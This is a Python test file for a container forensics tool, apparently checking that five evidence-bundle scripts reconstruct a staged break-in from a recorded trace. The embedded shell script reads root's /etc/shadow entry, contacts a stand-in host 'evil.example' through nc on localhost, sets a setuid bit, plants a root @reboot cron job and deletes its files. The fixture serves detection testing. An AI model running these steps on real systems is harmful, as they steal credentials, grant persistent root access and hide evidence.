#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A container is broken into and deleted; the five scripts that come along
make bundles of its trace, which stock tools check and which tell the story.
usage: evidence_test.py SOURCE"""
import json
import pathlib
import subprocess
import sys

import lives
import privileged
import rootfs
import runtimes
from replay import run

# The server must not close its end first: the other would not say a word.
SCRIPT = """#!/bin/sh
tail -f /dev/null | nc -l -p 4444 > /tmp/.received &
for i in $(seq 600); do  # until it listens
  grep -qs ':115C' /proc/net/tcp /proc/net/tcp6 && break
  sleep 0.1
done
cat > /tmp/update.sh <<'END'
#!/bin/sh
grep root /etc/shadow > /tmp/.loot
(echo "GET /c HTTP/1.1"; echo "Host: evil.example"; echo) | nc 127.0.0.1 4444
END
chmod 4755 /tmp/update.sh
API_TOKEN=planted-t0ken-4711 /tmp/update.sh --password=planted-t0ken-4711
mkdir -p /var/spool/cron/crontabs
echo '@reboot /tmp/update.sh' > /var/spool/cron/crontabs/root
rm -f /tmp/update.sh /tmp/.loot
"""

# Script, file, what stands in it.
STORY = [
    ("ioc", "executed.csv", "/tmp/update.sh"),
    ("ioc", "names.csv", "evil.example"),
    ("ioc", "findings.csv", "Dropped script"),
    ("timeline", "processes.csv", "nc 127.0.0.1 4444"),
    ("timeline", "changes.csv", "/tmp/.received"),
    ("dropped_files", "dropped.csv", "/tmp/update.sh"),
    ("dropped_files", "deleted.csv", "/tmp/update.sh"),
    ("network", "messages.csv", "GET /c HTTP/1.1"),
    ("network", "ip_connections.csv", "127.0.0.1:4444"),
    ("persistence", "places.csv", "/var/spool/cron/crontabs/root"),
    ("persistence", "privileged_files.csv", "/tmp/update.sh"),
]


def check_tool(cwd, *command):
    done = subprocess.run([*map(str, command)], cwd=cwd, capture_output=True,
                          text=True, check=False)
    if done.returncode != 0:
        return f"{command}: {done.stdout}{done.stderr}"
    return None


def make_bundle(source, trace, script, folder):
    done = run("evidence", f"{source}/replay/evidence/scripts/{script}.yaml",
               trace, "-o", folder, "-r", f"{source}/replay/rules/pack",
               "--at", "2026-11-23T10:00:00Z")
    if done.returncode != 0:
        raise AssertionError(f"{script}: {done.stderr}")


def examine(source, trace, work):
    before = pathlib.Path(trace).read_bytes()
    for script in ("ioc", "timeline", "dropped_files", "network",
                   "persistence"):
        folder, again = f"{work}/{script}", f"{work}/{script}-again"
        make_bundle(source, trace, script, folder)
        make_bundle(source, trace, script, again)
        yield check_tool(folder, "sha256sum", "-c", "--strict", "--quiet",
                         "MANIFEST.sha256")
        yield check_tool(work, "diff", "-r", folder, again)
        yield check_tool(work, "diff", "-q", folder + "/script.yaml",
                         f"{source}/replay/evidence/scripts/{script}.yaml")
        for database in pathlib.Path(folder).glob("*.sqlite"):
            yield check_tool(folder, "sqlite3", "-bail", database.name,
                             "PRAGMA foreign_key_check; SELECT 1/count(*) "
                             "FROM processes;")
    if pathlib.Path(trace).read_bytes() != before:
        yield "the trace was changed"
    for script, file, text in STORY:
        if text not in pathlib.Path(f"{work}/{script}/{file}").read_text():
            yield f"{script}: {file} does not tell of {text}"
    told = json.loads(pathlib.Path(f"{work}/ioc/case.json").read_text())
    one = told["traces"][0]
    if not one["command"] or not one["host"]["kernel"] or \
            not one["verified"]["signed_by"]:
        yield f"case.json lacks something: {one}"
    yield check_tool(work, "tshark", "-r", f"{work}/network/packets.pcapng",
                     "-Y", "http.host == evil.example")


def main(source):
    privileged.require("runc", "busybox")
    with lives.work_folder() as work:
        root = rootfs.make(f"{work}/rootfs", SCRIPT, {})
        trace = lives.record(runtimes.Runc(work, root),
                             lives.unique("evidence"), f"{work}/x.vtrace")
        failures = [f for f in examine(source, trace.path, work) if f]
    print("\n".join(failures) if failures else "five bundles tell the story")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
